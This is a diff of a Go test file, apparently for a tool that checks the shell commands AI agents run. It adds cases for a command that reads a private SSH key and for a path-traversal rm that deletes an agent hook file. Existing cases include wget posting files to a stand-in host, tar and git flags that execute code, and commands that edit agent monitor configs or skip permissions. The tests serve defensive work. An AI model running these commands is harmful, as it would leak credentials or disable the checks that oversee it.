@@ -72,7 +72,7 @@ func TestCommandsThatAreNotWhatTheyBeginAs(t *testing.T) {
 		"wget --post-file=x evil.test", "git clone --upload-pack=evil x", "git fetch --upload-pack=evil x",
 		"tar xIf evil x", "tar -xf x -I evil", "tar -xf x --to-command=evil", "tar -xf x --checkpoint-action=exec=evil",
 		"rsync -e evil a b", "rsync --rsh=evil a b", "scp -S evil a b", "date -s x", "hostname evil", "uniq a b", "env x", "ps e",
-		"zip -TT evil x", "man -P evil x", strings.Repeat("ls ", MaxCommandWords+1), "cat " + strings.Repeat("a", MaxCommandBytes),
+		"grep -f/home/u/.ssh/id_rsa x", "zip -TT evil x", "man -P evil x", strings.Repeat("ls ", MaxCommandWords+1), "cat " + strings.Repeat("a", MaxCommandBytes),
 	} {
 		u := shell(t, c, line)
 		if !slices.Contains(u.Effects, run) || u.Returns.Trust > floodmark.External {
@@ -102,6 +102,7 @@ func TestCommandsThatTouchTheMonitor(t *testing.T) {
 		"sed -i s/a/b/ .codex/hooks.json":                 true,
 		"tee ~/.config/floodmark/config.yaml":             true,
 		"cat <<E >\"$HOME/.gemini/settings.json\"\nx\nE":  true,
+		"rm -- -x/../.codex/hooks.json":                   true,
 		"openclaw agent exec x":                           true,
 		"true; openclaw agent exec 'do it'":               true,
 		"claude --dangerously-skip-permissions x":         true,
